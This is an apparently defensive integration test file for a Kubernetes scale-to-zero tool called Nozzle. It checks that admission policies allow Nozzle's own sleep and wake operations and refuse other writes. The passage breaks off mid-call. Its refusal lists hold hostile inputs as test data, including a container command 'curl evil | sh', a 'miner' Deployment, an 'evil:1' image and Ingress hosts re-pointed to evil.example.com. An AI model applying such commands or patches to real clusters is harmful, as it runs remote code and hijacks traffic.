/**
 * k8s/admission-policy.yaml against the real apiserver: with real
 * TokenRequest tokens of the worker and the activator (bound to the
 * ClusterRoles of k8s/ as shipped), Nozzle's own sleep and wake (the lib
 * functions the worker and the activator run) pass the policies, and what
 * RBAC's `patch` would also allow but Nozzle never does (a new image, a
 * label, another host, another Service...) is refused by them. Other users,
 * even with the same RBAC, are not affected.
 *
 * The worker writes no Ingress and no Lease but its port Leases; the
 * activator writes an Ingress only to restore what 0.1 rewrote.
 *
 * The policies stay in place after this file: the other tests (their worker
 * and activator run under the same ServiceAccounts) then run under them too.
 */
import test, { type ExecutionContext } from 'ava';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import {
  RbacAuthorizationV1Api,
  type KubernetesObject,
  type V1EndpointSlice,
  type V1IngressRule,
  type V1Lease,
  type V1PolicyRule,
} from '@kubernetes/client-node';
import type { Kube } from '../../lib/kube/client.js';
import { describeError, statusOf } from '../../lib/errors.js';
import { jsonPatch, mergePatch } from '../../lib/kube/patch.js';
import { sleepMessage } from '../../lib/messages.js';
import { ROUTE_SERVICE, annotations, labels } from '../../lib/names.js';
import { pauseForSleep, resumeAfterWake } from '../../lib/keda/paused-replicas.js';
import { assignPorts, portLease, portLeaseName } from '../../lib/takeover/port-assignment.js';
import { ensureTakeover, removeTakeover } from '../../lib/takeover/takeover.js';
import { takeoverLabels } from '../../lib/takeover/takeover-slice.js';
import { optIn } from '../../lib/kube/opt-in.js';
import { sleepWorkload } from '../../lib/sleep/sleep.js';
import { restoreIngresses } from '../../lib/upgrade/ingress-v01.js';
import { RestoreError } from '../../lib/wake/restore-error.js';
import { restoreWorkloads, stampWokeAt } from '../../lib/wake/restore.js';
import { wakeNamespace } from '../../lib/wake/wake-namespace.js';
import { apply } from '../../scripts/testenv/servers/kube-request.js';
import { parseManifests } from '../../scripts/testenv/servers/yaml.js';
import { staticActivatorPods } from '../support/activator-pods.js';
import {
  adminKube,
  adminKubeConfig,
  kubeWithToken,
  serviceAccountToken,
  uniqueName,
} from '../support/env.js';
import { createScaledObject, installScaledObjectCrd, readScaledObject } from '../support/keda.js';
import { eventually } from '../support/eventually.js';
import { rewriteAsV01 } from '../support/ingress-v01.js';
import { repoRoot } from '../support/manifests.js';
import { createNamespace, createShop, snapshot } from '../support/shop.js';
import { createTakeoverShop, takeoverSlicesByName } from '../support/takeover-shop.js';
import { controllerSliceBody } from '../support/controller-slice.js';

const kube = adminKube();
const rbac = adminKubeConfig().makeApiClient(RbacAuthorizationV1Api);
const fieldManager = 'nozzle-test-security';
const OPT_IN = optIn('nozzle=true', 'nozzle-system');
const manifest = (file: string): KubernetesObject[] =>
  parseManifests(readFileSync(join(repoRoot, 'k8s', file), 'utf8'));

const tokens: { worker?: Kube; activator?: Kube } = {};
const asWorker = (): Kube => tokens.worker ?? assertNever('worker');
const asActivator = (): Kube => tokens.activator ?? assertNever('activator');
function assertNever(what: string): never {
  throw new Error(`no ${what} token: test.before failed`);
}

async function applyAll(objects: readonly KubernetesObject[]): Promise<void> {
  for (const object of objects) {
    const res = await apply(adminKubeConfig(), object, { dryRun: false, fieldManager });
    if (res.status >= 300) {
      throw new Error(`apply ${object.kind}/${object.metadata?.name}: ${res.status} ${res.body}`);
    }
  }
}

/** The call is refused by the named policy, or by nozzle-opted-in (403, not by RBAC: the message names the policy). */
async function deniedBy(policy: string, call: () => Promise<unknown>): Promise<string | undefined> {
  try {
    await call();
    return undefined;
  } catch (err) {
    const text = describeError(err);
    // Outside opted-in namespaces nozzle-opted-in (scope) refuses too, and the apiserver names
    // whichever policy denies first, in no fixed order: either refusal is the one expected there.
    const by = [policy, 'nozzle-opted-in'].map((name) => `ValidatingAdmissionPolicy '${name}'`);
    if (statusOf(err) === 403 && by.some((name) => text.includes(name))) return text;
    throw err;
  }
}

/** Each call is refused by `policy` (not by RBAC, not by another error). */
async function allRefusedBy(
  t: ExecutionContext,
  policy: string,
  refused: readonly [what: string, call: () => Promise<unknown>][],
): Promise<void> {
  for (const [what, call] of refused) {
    const message = await deniedBy(policy, call).catch(
      (err: unknown) => `other error: ${describeError(err)}`,
    );
    t.truthy(message, `${what}: was allowed`);
    t.notRegex(message ?? '', /^other error/, what);
  }
}

/**
 * Grants both components more than k8s/ does, in `namespace` only (a Role and
 * a RoleBinding): what RBAC would then let through shows the policy at work.
 */
async function grantMore(namespace: string, rules: V1PolicyRule[]): Promise<void> {
  await rbac.createNamespacedRole({ namespace, body: { metadata: { name: 'more' }, rules } });
  await rbac.createNamespacedRoleBinding({
    namespace,
    body: {
      metadata: { name: 'more' },
      roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'Role', name: 'more' },
      subjects: ['nozzle-worker', 'nozzle-activator'].map((name) => ({
        kind: 'ServiceAccount',
        name,
        namespace: 'nozzle-system',
      })),
    },
  });
}

test.before(async () => {
  await kube.core.createNamespace({ body: { metadata: { name: 'nozzle-system' } } }).catch((err: unknown) => {
    if (statusOf(err) !== 409) throw err;
  });
  const policy = manifest('admission-policy.yaml');
  if (!policy.some((o) => o.kind === 'ValidatingAdmissionPolicyBinding')) throw new Error('no binding');
  await applyAll([...manifest('rbac-worker.yaml'), ...manifest('rbac-activator.yaml'), ...policy]);
  tokens.worker = kubeWithToken(await serviceAccountToken(kube, 'nozzle-system', 'nozzle-worker'), 'worker');
  tokens.activator = kubeWithToken(
    await serviceAccountToken(kube, 'nozzle-system', 'nozzle-activator'),
    'activator',
  );

  // A policy is enforced a moment after it is created: probe each with a
  // forbidden write, as a dry run so that nothing changes before it is.
  const { namespace } = await createNamespace(kube, 'vap-probe');
  await kube.apps.createNamespacedDeployment({
    namespace,
    body: {
      metadata: { name: 'web' },
      spec: {
        replicas: 1,
        selector: { matchLabels: { app: 'web' } },
        template: {
          metadata: { labels: { app: 'web' } },
          spec: { containers: [{ name: 'c', image: 'i:1' }] },
        },
      },
    },
  });
  await kube.networking.createNamespacedIngress({
    namespace,
    body: {
      metadata: { name: 'web' },
      spec: { rules: [{ host: 'a.example.com', http: { paths: [webPath('/')] } }] },
    },
  });
  const dryRun = 'All';
  const label = { metadata: { labels: { probe: 'x' } } };
  await eventually(
    'the policies are enforced',
    async () =>
      (await deniedBy('nozzle-workloads', () =>
        asWorker().apps.patchNamespacedDeployment(
          { namespace, name: 'web', body: label, dryRun },
          mergePatch,
        ),
      )) !== undefined &&
      (await deniedBy('nozzle-ingresses', () =>
        asActivator().networking.patchNamespacedIngress(
          { namespace, name: 'web', body: label, dryRun },
          mergePatch,
        ),
      )) !== undefined &&
      (await deniedBy('nozzle-namespaces', () =>
        asActivator().core.patchNamespace({ name: namespace, body: label, dryRun }, mergePatch),
      )) !== undefined &&
      (await deniedBy('nozzle-endpointslices', () =>
        asWorker().discovery.createNamespacedEndpointSlice({
          namespace,
          dryRun,
          body: controllerSlice('probe', 'probe-abc'),
        }),
      )) !== undefined &&
      (await deniedBy('nozzle-worker-leases', () =>
        asWorker().coordination.createNamespacedLease({
          namespace: 'nozzle-system',
          dryRun,
          body: { metadata: { name: 'nozzle-probe' } },
        }),
      )) !== undefined,
    { timeout: 60_000 },
  );
});

/** An EndpointSlice as the EndpointSlice controller makes them: not Nozzle's. */
function controllerSlice(service: string, name: string): V1EndpointSlice {
  return controllerSliceBody(service, name, { endpoints: [{ ip: '10.244.0.7', ready: true }] });
}

function webPath(path: string) {
  return {
    path,
    pathType: 'Prefix',
    backend: { service: { name: 'web', port: { number: 80 } } },
  };
}

test("Nozzle's own sleep and wake pass the policies, under the worker's and the activator's tokens", async (t) => {
  // Services that can be taken over; the Leases in nozzle-system (the worker's Role is there).
  const { namespace } = await createTakeoverShop(kube, 'vap-ok', { system: 'nozzle-system', activators: 0 });
  const before = await snapshot(kube, namespace);
  const sleepAll = async () => {
    for (const workload of [
      { kind: 'Deployment', name: 'web' },
      { kind: 'Deployment', name: 'api' },
      { kind: 'StatefulSet', name: 'db' },
    ] as const) {
      const outcome = await sleepWorkload(asWorker(), sleepMessage(namespace, workload), {
        activatorPods: staticActivatorPods('nozzle-system'),
        optIn: OPT_IN,
        onEventError: (err) => t.fail(describeError(err)),
      });
      t.is(outcome.outcome, 'slept', `${workload.name}: ${JSON.stringify(outcome)}`);
    }
    const asleep = await snapshot(kube, namespace);
    t.is(asleep.deployments.web?.spec?.replicas, 0);
    t.is(asleep.deployments.web?.metadata?.annotations?.[annotations.replicas], '3');
    t.is(asleep.statefulSets.db?.metadata?.annotations?.[annotations.replicas], '1');
    t.deepEqual(Object.keys(await takeoverSlicesByName(kube, namespace)).sort(), [
      'api-nozzle-ipv4',
      'web-alias-nozzle-ipv4',
      'web-nozzle-ipv4',
    ]);
    t.deepEqual(asleep.services, before.services, 'no Service written');
    t.deepEqual(asleep.ingresses, before.ingresses, 'no Ingress written');
  };
  const assertAwake = async () => {
    const awake = await snapshot(kube, namespace);
    for (const name of ['web', 'api'])
      t.deepEqual(awake.deployments[name]?.spec, before.deployments[name]?.spec, name);
    t.deepEqual(awake.statefulSets.db?.spec, before.statefulSets.db?.spec);
    for (const name of ['shop', 'db-admin']) {
      t.deepEqual(awake.ingresses[name]?.spec, before.ingresses[name]?.spec, name);
      t.deepEqual(awake.ingresses[name]?.metadata?.labels, before.ingresses[name]?.metadata?.labels, name);
      t.deepEqual(
        awake.ingresses[name]?.metadata?.annotations,
        before.ingresses[name]?.metadata?.annotations,
        name,
      );
    }
  };

  // The worker puts every workload to sleep; the activator wakes the namespace.
  await sleepAll();
  await stampWokeAt(asActivator(), namespace);
  t.is((await restoreWorkloads(asActivator(), namespace)).length, 3);
  await assertAwake();

  // Again, woken by the worker's `wake` this time.
  await new Promise((resolve) => setTimeout(resolve, 5));
  await sleepAll();
  const woke = await wakeNamespace(asWorker(), namespace, OPT_IN);
  t.is(woke.workloads.length, 3);
  await assertAwake();
  const ns = await kube.core.readNamespace({ name: namespace });
  t.truthy(ns.metadata?.annotations?.[annotations.wokeAt]);
});

test('what RBAC allows but Nozzle never does is refused by the policies', async (t) => {
  const { namespace } = await createShop(kube, 'vap-deny');
  // A sleeping Deployment, as Nozzle left it.
  const sleeping = await sleepWorkload(
    asWorker(),
    sleepMessage(namespace, { kind: 'Deployment', name: 'web' }),
    { activatorPods: staticActivatorPods('nozzle-system'), optIn: OPT_IN },
  );
  t.is(sleeping.outcome, 'slept');
  // k8s/rbac-worker.yaml grants no Service or Ingress write at all: grant them here, so that
  // what the policies do about them shows.
  await grantMore(namespace, [
    { apiGroups: [''], resources: ['services'], verbs: ['get', 'patch', 'create'] },
    { apiGroups: ['networking.k8s.io'], resources: ['ingresses'], verbs: ['patch'] },
  ]);
  await eventually('the Role is in effect', () =>
    deniedBy('nozzle-services', () =>
      asWorker().core.patchNamespacedService(
        { namespace, name: 'web', body: { metadata: { labels: { x: 'y' } } }, dryRun: 'All' },
        mergePatch,
      ),
    ),
  );
  await kube.core.createNamespacedService({
    namespace,
    body: {
      metadata: { name: 'not-ours' },
      spec: { type: 'ExternalName', externalName: 'example.com' },
    },
  });
  const before = await snapshot(kube, namespace);
  const nsBefore = await kube.core.readNamespace({ name: namespace });

  const patchDeployment = (kube: Kube, name: string, body: object) =>
    kube.apps.patchNamespacedDeployment({ namespace, name, body }, mergePatch);
  const patchIngress = (kube: Kube, body: object, name = 'shop') =>
    kube.networking.patchNamespacedIngress({ namespace, name, body }, mergePatch);
  const jsonPatchIngress = (kube: Kube, body: object[]) =>
    kube.networking.patchNamespacedIngress({ namespace, name: 'shop', body }, jsonPatch);
  const container = (image: string) => ({
    spec: { template: { spec: { containers: [{ name: 'api', image }] } } },
  });

  const refused: [policy: string, what: string, call: () => Promise<unknown>][] = [
    // Deployments and StatefulSets
    [
      'nozzle-workloads',
      'worker changes a container image',
      () => patchDeployment(asWorker(), 'api', container('evil:1')),
    ],
    [
      'nozzle-workloads',
      'activator changes a container image',
      () => patchDeployment(asActivator(), 'api', container('evil:1')),
    ],
    [
      'nozzle-workloads',
      'worker changes an image in the same patch as a sleep',
      () =>
        patchDeployment(asWorker(), 'api', {
          metadata: { annotations: { [annotations.replicas]: '2' } },
          spec: { replicas: 0, template: { spec: { containers: [{ name: 'api', image: 'evil:1' }] } } },
        }),
    ],
    [
      'nozzle-workloads',
      'worker adds a command to a StatefulSet',
      () =>
        asWorker().apps.patchNamespacedStatefulSet(
          {
            namespace,
            name: 'db',
            body: [
              {
                op: 'add',
                path: '/spec/template/spec/containers/0/command',
                value: ['sh', '-c', 'curl evil | sh'],
              },
            ],
          },
          jsonPatch,
        ),
    ],
    [
      'nozzle-workloads',
      'worker adds a label',
      () => patchDeployment(asWorker(), 'api', { metadata: { labels: { x: 'y' } } }),
    ],
    [
      'nozzle-workloads',
      'worker adds another annotation',
      () => patchDeployment(asWorker(), 'api', { metadata: { annotations: { x: 'y' } } }),
    ],
    [
      'nozzle-workloads',
      'worker adds an owner reference',
      () =>
        patchDeployment(asWorker(), 'api', {
          metadata: {
            ownerReferences: [
              { apiVersion: 'v1', kind: 'ConfigMap', name: 'x', uid: '6a7e8b52-0000-4000-8000-000000000000' },
            ],
          },
        }),
    ],
    [
      'nozzle-workloads',
      'worker pauses a rollout',
      () => patchDeployment(asWorker(), 'api', { spec: { paused: true } }),
    ],
    [
      'nozzle-workloads',
      'worker scales to 50',
      () => patchDeployment(asWorker(), 'api', { spec: { replicas: 50 } }),
    ],
    [
      'nozzle-workloads',
      'worker scales to 0 recording a wrong count',
      () =>
        patchDeployment(asWorker(), 'api', {
          metadata: { annotations: { [annotations.replicas]: '50' } },
          spec: { replicas: 0 },
        }),
    ],
    [
      'nozzle-workloads',
      'activator wakes to more than the recorded count',
      () =>
        patchDeployment(asActivator(), 'web', {
          metadata: { annotations: { [annotations.replicas]: null } },
          spec: { replicas: 50 },
        }),
    ],
    [
      'nozzle-workloads',
      'activator rewrites the recorded count',
      () =>
        patchDeployment(asActivator(), 'web', {
          metadata: { annotations: { [annotations.replicas]: '50' } },
        }),
    ],
    // Ingresses
    [
      'nozzle-ingresses',
      'activator changes an Ingress host',
      () =>
        jsonPatchIngress(asActivator(), [
          { op: 'replace', path: '/spec/rules/0/host', value: 'evil.example.com' },
        ]),
    ],
    [
      'nozzle-ingresses',
      'worker changes a path',
      () =>
        jsonPatchIngress(asWorker(), [
          { op: 'replace', path: '/spec/rules/0/http/paths/2/path', value: '/x' },
        ]),
    ],
    [
      'nozzle-ingresses',
      'worker changes a pathType',
      () =>
        jsonPatchIngress(asWorker(), [
          { op: 'replace', path: '/spec/rules/0/http/paths/2/pathType', value: 'Exact' },
        ]),
    ],
    [
      'nozzle-ingresses',
      'worker adds a path',
      () =>
        jsonPatchIngress(asWorker(), [
          {
            op: 'add',
            path: '/spec/rules/0/http/paths/-',
            value: {
              path: '/new',
              pathType: 'Prefix',
              backend: { service: { name: 'web', port: { number: 80 } } },
            },
          },
        ]),
    ],
    [
      'nozzle-ingresses',
      'worker adds a rule',
      () =>
        jsonPatchIngress(asWorker(), [
          {
            op: 'add',
            path: '/spec/rules/-',
            value: { host: 'new.example.com', http: { paths: [webPath('/')] } },
          },
        ]),
    ],
    [
      'nozzle-ingresses',
      'worker points a path at another Service',
      () =>
        jsonPatchIngress(asWorker(), [
          { op: 'replace', path: '/spec/rules/0/http/paths/2/backend/service/name', value: 'db' },
        ]),
    ],
    [
      'nozzle-ingresses',
      'worker changes the TLS secret',
      () =>
        patchIngress(asWorker(), { spec: { tls: [{ hosts: ['shop.example.com'], secretName: 'evil' }] } }),
    ],
    [
      'nozzle-ingresses',
      'worker changes ingressClassName',
      () => patchIngress(asWorker(), { spec: { ingressClassName: 'evil' } }),
    ],
    [
      'nozzle-ingresses',
      'worker adds a defaultBackend',
      () =>
        patchIngress(asWorker(), {
          spec: { defaultBackend: { service: { name: 'web', port: { number: 80 } } } },
        }),
    ],
    [
      'nozzle-ingresses',
      'activator adds an annotation (e.g. a controller snippet)',
      () =>
        patchIngress(asActivator(), {
          metadata: { annotations: { 'nginx.ingress.kubernetes.io/server-snippet': 'x' } },
        }),
    ],
    [
      'nozzle-ingresses',
      'activator removes a label',
      () => patchIngress(asActivator(), { metadata: { labels: { team: null } } }),
    ],
    [
      'nozzle-ingresses',
      'worker sets nozzle.io/managed to something else',
      () => patchIngress(asWorker(), { metadata: { labels: { [labels.managed]: 'false' } } }),
    ],
    // Namespaces
    [
      'nozzle-namespaces',
      'activator adds a Namespace label',
      () =>
        asActivator().core.patchNamespace(
          { name: namespace, body: { metadata: { labels: { x: 'y' } } } },
          mergePatch,
        ),
    ],
    [
      'nozzle-namespaces',
      'worker removes the opt-in label',
      () =>
        asWorker().core.patchNamespace(
          { name: namespace, body: { metadata: { labels: { nozzle: null } } } },
          mergePatch,
        ),
    ],
    [
      'nozzle-namespaces',
      'worker sets nozzle.io/idle-after',
      () =>
        asWorker().core.patchNamespace(
          { name: namespace, body: { metadata: { annotations: { [annotations.idleAfter]: '1s' } } } },
          mergePatch,
        ),
    ],
    // Services
    [
      'nozzle-services',
      'worker patches a Service',
      () =>
        asWorker().core.patchNamespacedService(
          { namespace, name: 'web', body: { spec: { selector: { app: 'db' } } } },
          mergePatch,
        ),
    ],
    [
      'nozzle-services',
      'worker re-points an ExternalName Service',
      () =>
        asWorker().core.patchNamespacedService(
          { namespace, name: 'not-ours', body: { spec: { externalName: 'evil.example.com' } } },
          mergePatch,
        ),
    ],
    [
      'nozzle-services',
      'worker creates a Service',
      () =>
        asWorker().core.createNamespacedService({
          namespace,
          body: {
            metadata: { name: 'evil', labels: { [labels.managed]: 'true' } },
            spec: { type: 'ExternalName', externalName: 'evil.example.com' },
          },
        }),
    ],
  ];
  for (const [policy, what, call] of refused) {
    const message = await deniedBy(policy, call).catch(
      (err: unknown) => `other error: ${describeError(err)}`,
    );
    t.truthy(message, `${what}: was allowed`);
    t.notRegex(message ?? '', /^other error/, what);
  }
  t.deepEqual(await snapshot(kube, namespace), before, 'nothing changed');
  t.deepEqual(
    (await kube.core.readNamespace({ name: namespace })).metadata?.labels,
    nsBefore.metadata?.labels,
  );
});

test('EndpointSlices: the worker writes its own takeover slices in opted-in namespaces, nothing else', async (t) => {
  const { namespace } = await createTakeoverShop(kube, 'vap-slices', {
    system: 'nozzle-system',
    activators: 0,
  });
  const service = await kube.core.readNamespacedService({ namespace, name: 'api' });
  const { ports } = await assignPorts(asWorker(), { systemNamespace: 'nozzle-system' }, service);
  const input = { namespace, service, ports, activatorPods: await staticActivatorPods('nozzle-system')() };
  // Allowed: create, update (ensured-at, endpoints), delete of Nozzle's own slice, as lib/takeover writes them.
  t.like(await ensureTakeover(asWorker(), { ...input, ensuredAt: new Date() }), {
    slices: [{ name: 'api-nozzle-ipv4', outcome: 'created' }],
  });
  t.like(await ensureTakeover(asWorker(), { ...input, ensuredAt: new Date(Date.now() + 1_000) }), {
    slices: [{ name: 'api-nozzle-ipv4', outcome: 'updated' }],
  });
  const ours = await kube.discovery.readNamespacedEndpointSlice({ namespace, name: 'api-nozzle-ipv4' });
  await kube.discovery.createNamespacedEndpointSlice({
    namespace,
    body: controllerSlice('api', 'api-abcde'),
  });

  const outside = (await kube.core.createNamespace({ body: { metadata: { name: uniqueName('vap-out') } } }))
    .metadata!.name!;
  const nozzleSlice = (name: string): V1EndpointSlice => ({
    ...controllerSlice('api', name),
    metadata: { name, labels: takeoverLabels('api') },
  });
  const dryRun = 'All';
  // The worker may update (not patch) EndpointSlices; the activator's rights are granted here.
  await grantMore(namespace, [
    { apiGroups: ['discovery.k8s.io'], resources: ['endpointslices'], verbs: ['update'] },
  ]);
  const replaceSlice = async (as: Kube, name: string, change: (s: V1EndpointSlice) => V1EndpointSlice) => {
    const body = change(await kube.discovery.readNamespacedEndpointSlice({ namespace, name }));
    return as.discovery.replaceNamespacedEndpointSlice({ namespace, name, body, dryRun });
  };
  const relabel = (s: V1EndpointSlice, managedBy: string): V1EndpointSlice => ({
    ...s,
    metadata: {
      ...s.metadata,
      labels: { ...s.metadata?.labels, [labels.endpointSliceManagedBy]: managedBy },
    },
  });
  await eventually(
    'the Role is in effect',
    async () =>
      (await deniedBy('nozzle-activator-endpointslices', () =>
        replaceSlice(asActivator(), 'api-abcde', (s) => ({ ...s, endpoints: [] })),
      )) !== undefined,
  );
  const refused: [policy: string, what: string, call: () => Promise<unknown>][] = [
    [
      'nozzle-endpointslices',
      "worker updates the controller's slice",
      () => replaceSlice(asWorker(), 'api-abcde', (s) => ({ ...s, endpoints: [] })),
    ],
    [
      'nozzle-endpointslices',
      "worker takes the controller's slice over by relabelling it",
      () => replaceSlice(asWorker(), 'api-abcde', (s) => relabel(s, 'nozzle.io')),
    ],
    [
      'nozzle-endpointslices',
      "worker deletes the controller's slice",
      () => asWorker().discovery.deleteNamespacedEndpointSlice({ namespace, name: 'api-abcde', dryRun }),
    ],
    [
      'nozzle-endpointslices',
      "worker creates a slice that is not labelled as Nozzle's",
      () =>
        asWorker().discovery.createNamespacedEndpointSlice({
          namespace,
          dryRun,
          body: controllerSlice('api', 'api-fake'),
        }),
    ],
    [
      'nozzle-endpointslices',
      'worker hands its own slice to the controller',
      () => replaceSlice(asWorker(), 'api-nozzle-ipv4', (s) => relabel(s, 'endpointslice-controller.k8s.io')),
    ],
    [
      'nozzle-activator-endpointslices',
      "activator updates the controller's slice",
      () => replaceSlice(asActivator(), 'api-abcde', (s) => ({ ...s, endpoints: [] })),
    ],
    [
      'nozzle-endpointslices-opted-in',
      'worker creates a takeover slice in a namespace that has not opted in',
      () =>
        asWorker().discovery.createNamespacedEndpointSlice({
          namespace: outside,
          dryRun,
          body: nozzleSlice('api-nozzle-ipv4'),
        }),
    ],
    [
      'nozzle-endpointslices-opted-in',
      'worker creates a takeover slice in kube-system',
      () =>
        asWorker().discovery.createNamespacedEndpointSlice({
          namespace: 'kube-system',
          dryRun,
          body: nozzleSlice('kube-dns-nozzle-ipv4'),
        }),
    ],
  ];
  for (const [policy, what, call] of refused) {
    const message = await deniedBy(policy, call).catch(
      (err: unknown) => `other error: ${describeError(err)}`,
    );
    t.truthy(message, `${what}: was allowed`);
    t.notRegex(message ?? '', /^other error/, what);
  }
  const after = await kube.discovery.readNamespacedEndpointSlice({ namespace, name: 'api-nozzle-ipv4' });
  t.is(after.metadata?.resourceVersion, ours.metadata?.resourceVersion, 'ours unchanged by the refusals');
  t.deepEqual(
    (await kube.discovery.readNamespacedEndpointSlice({ namespace, name: 'api-abcde' })).endpoints?.length,
    1,
    "the controller's slice unchanged",
  );
  t.deepEqual(await removeTakeover(asWorker(), namespace, 'api'), ['api-nozzle-ipv4'], 'delete allowed');
});

test('ScaledObjects: Nozzle pauses and resumes them, and may change nothing else of one', async (t) => {
  await installScaledObjectCrd();
  const { namespace } = await createShop(kube, 'vap-keda');
  await createScaledObject(kube, namespace, 'web', { name: 'web' });
  // The activator resumes on wake; its ClusterRole is another branch's business: granted here.
  await grantMore(namespace, [
    { apiGroups: ['keda.sh'], resources: ['scaledobjects'], verbs: ['get', 'list', 'patch'] },
  ]);
  const web = { kind: 'Deployment', name: 'web' } as const;
  await eventually(
    'the Role is in effect',
    async () => await resumeAfterWake(asActivator(), namespace, web).then(() => true),
  );
  t.deepEqual(await pauseForSleep(asWorker(), namespace, web), { changed: ['web'], userPaused: [] });
  t.like((await readScaledObject(kube, namespace, 'web')).metadata.annotations, {
    'autoscaling.keda.sh/paused-replicas': '0',
    'nozzle.io/paused-by-nozzle': 'true',
  });
  const before = await readScaledObject(kube, namespace, 'web');
  const patch = (as: Kube, body: object) =>
    as.custom.patchNamespacedCustomObject(
      { group: 'keda.sh', version: 'v1alpha1', plural: 'scaledobjects', namespace, name: 'web', body },
      mergePatch,
    );
  const refused: [what: string, call: () => Promise<unknown>][] = [
    ['worker changes the spec', () => patch(asWorker(), { spec: { maxReplicaCount: 50 } })],
    [
      'activator changes the target',
      () => patch(asActivator(), { spec: { scaleTargetRef: { name: 'api' } } }),
    ],
    ['worker adds another annotation', () => patch(asWorker(), { metadata: { annotations: { x: 'y' } } })],
    ['worker adds a label', () => patch(asWorker(), { metadata: { labels: { x: 'y' } } })],
    [
      'worker pauses at another count',
      () => patch(asWorker(), { metadata: { annotations: { 'autoscaling.keda.sh/paused-replicas': '3' } } }),
    ],
  ];
  await allRefusedBy(t, 'nozzle-scaledobjects', refused);
  const after = await readScaledObject(kube, namespace, 'web');
  t.is(after.metadata.resourceVersion, before.metadata.resourceVersion, 'nothing changed');
  t.deepEqual(await resumeAfterWake(asActivator(), namespace, web), { changed: ['web'], userPaused: [] });
  t.deepEqual((await readScaledObject(kube, namespace, 'web')).metadata.annotations ?? {}, {});
});

test('no create or delete, even where a RoleBinding grants it', async (t) => {
  const { namespace } = await createShop(kube, 'vap-cd');
  await grantMore(namespace, [
    { apiGroups: ['apps'], resources: ['deployments', 'statefulsets'], verbs: ['create', 'delete'] },
    { apiGroups: ['networking.k8s.io'], resources: ['ingresses'], verbs: ['create', 'delete'] },
    { apiGroups: [''], resources: ['services'], verbs: ['delete'] },
  ]);
  const dryRun = 'All';
  const policy = 'nozzle-no-create-delete';
  // Until the RoleBinding is seen, RBAC refuses first (deniedBy throws: not the policy's 403).
  await eventually('the RoleBinding is in effect', () =>
    deniedBy(policy, () => asWorker().apps.deleteNamespacedDeployment({ namespace, name: 'web', dryRun })),
  );
  const refused: [string, () => Promise<unknown>][] = [
    [
      'activator deletes a Deployment',
      () => asActivator().apps.deleteNamespacedDeployment({ namespace, name: 'web', dryRun }),
    ],
    [
      'worker deletes a StatefulSet',
      () => asWorker().apps.deleteNamespacedStatefulSet({ namespace, name: 'db', dryRun }),
    ],
    [
      'worker creates a Deployment',
      () =>
        asWorker().apps.createNamespacedDeployment({
          namespace,
          dryRun,
          body: {
            metadata: { name: 'miner' },
            spec: {
              selector: { matchLabels: { app: 'miner' } },
              template: {
                metadata: { labels: { app: 'miner' } },
                spec: { containers: [{ name: 'c', image: 'miner:1' }] },
              },
            },
          },
        }),
    ],
    [
      'worker deletes an Ingress',
      () => asWorker().networking.deleteNamespacedIngress({ namespace, name: 'shop', dryRun }),
    ],
  ];
  const serviceDelete = await deniedBy('nozzle-service-deletes', () =>
    asWorker().core.deleteNamespacedService({ namespace, name: 'web', dryRun }),
  ).catch((err: unknown) => `other error: ${describeError(err)}`);
  t.truthy(serviceDelete, 'worker deletes a Service: was allowed');
  t.notRegex(serviceDelete ?? '', /^other error/, 'worker deletes a Service');
  await allRefusedBy(t, policy, refused);
});

test('other users, even with the same ClusterRole, are not affected', async (t) => {
  const { namespace } = await createShop(kube, 'vap-other');
  await kube.core.createNamespacedServiceAccount({ namespace, body: { metadata: { name: 'other' } } });
  await rbac.createNamespacedRoleBinding({
    namespace,
    body: {
      metadata: { name: 'other-as-worker' },
      roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'nozzle-worker' },
      subjects: [{ kind: 'ServiceAccount', name: 'other', namespace }],
    },
  });
  const other = kubeWithToken(await serviceAccountToken(kube, namespace, 'other'), 'other');
  const image = { spec: { template: { spec: { containers: [{ name: 'web', image: 'example/web:2' }] } } } };
  await eventually('the RoleBinding is in effect', () =>
    other.apps
      .patchNamespacedDeployment({ namespace, name: 'web', body: image, dryRun: 'All' }, mergePatch)
      .then(() => true),
  );
  const patched = await other.apps.patchNamespacedDeployment(
    { namespace, name: 'web', body: image },
    mergePatch,
  );
  t.is(patched.spec?.template.spec?.containers[0]?.image, 'example/web:2');
  const admin = await kube.apps.patchNamespacedDeployment(
    { namespace, name: 'web', body: { metadata: { labels: { x: 'y' } } } },
    mergePatch,
  );
  t.is(admin.metadata?.labels?.x, 'y');
});

test('Ingresses: the worker writes none; the activator only restores what 0.1 rewrote', async (t) => {
  const { namespace } = await createShop(kube, 'vap-ingress');
  const before = await snapshot(kube, namespace);
  const original = before.ingresses.shop!.spec!.rules!;
  // 0.1 put web to sleep: the paths of `shop` to web and web-alias point at the route Service.
  await rewriteAsV01(kube, namespace, 'shop', (service) => service === 'web' || service === 'web-alias');
  const rewritten = await snapshot(kube, namespace);
  // k8s/rbac-worker.yaml grants no Ingress rights at all: granted here, so that the policy shows.
  await grantMore(namespace, [
    { apiGroups: ['networking.k8s.io'], resources: ['ingresses'], verbs: ['get', 'list', 'patch'] },
  ]);
  const dryRun = 'All';
  const patch = (as: Kube, body: object, name = 'shop') =>
    as.networking.patchNamespacedIngress({ namespace, name, body, dryRun }, mergePatch);
  await eventually('the Role is in effect', () =>
    deniedBy('nozzle-ingresses', () => patch(asWorker(), { metadata: { labels: { x: 'y' } } })),
  );
  /** The original rules with rules[i].http.paths[j] pointed at `service`. */
  const pointed = (i: number, j: number, service: string): V1IngressRule[] => {
    const rules = JSON.parse(JSON.stringify(original)) as V1IngressRule[];
    rules[i]!.http!.paths[j]!.backend = { service: { name: service, port: { number: 80 } } };
    return rules;
  };
  /** The restore lib/upgrade/ingress-v01.ts writes, changed by `change`. */
  const restore = (change: { rules?: V1IngressRule[]; labels?: object; annotations?: object } = {}) => ({
    metadata: {
      annotations: { [annotations.backends]: null, ...change.annotations },
      labels: { [labels.managed]: null, ...change.labels },
    },
    spec: { rules: change.rules ?? original },
  });
  const unwrap = (err: unknown) => {
    throw err instanceof RestoreError ? err.failures[0]?.error : err;
  };

  await allRefusedBy(t, 'nozzle-ingresses', [
    [
      'worker restores the Ingress as the activator does',
      () => restoreIngresses(asWorker(), namespace).catch(unwrap),
    ],
    ['worker writes the exact restore', () => patch(asWorker(), restore())],
    [
      "worker points a path at the route Service (0.1's sleep)",
      () => patch(asWorker(), { spec: { rules: pointed(0, 1, ROUTE_SERVICE) } }),
    ],
    [
      'activator points a path of an Ingress 0.1 never rewrote at the route Service',
      () =>
        asActivator().networking.patchNamespacedIngress(
          {
